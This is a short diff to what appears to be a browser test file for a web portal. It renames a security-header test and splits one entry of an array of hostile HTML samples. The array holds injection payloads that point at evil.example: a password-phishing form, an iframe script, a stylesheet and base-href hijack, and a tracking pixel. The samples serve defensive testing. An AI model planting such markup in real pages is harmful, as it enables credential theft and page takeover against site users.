@@ -12,7 +12,7 @@ const LISTED = listed
   .filter(({ deployOnly }) => deployOnly !== true)
   .map(({ name, value }) => ({ name, value: value.replace("frame-ancestors 'none'", "frame-ancestors 'self'") }));
 
-test("each portal response has exactly the listed security headers with the configured frame host", async ({
+test("each portal response has exactly the listed headers with the configured frame host", async ({
   request,
   page,
   baseURL,
@@ -118,7 +118,8 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name=haslo><button>Zaloguj się</button></form>',
   '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
   '<p style="position:fixed;inset:0" class="dialog" id="tresc">Zasłona</p>',
-  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
+  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
+  "<base href=https://evil.example/>",
   '<img src="https://evil.example/pixel.png">',
 ].join("");
 
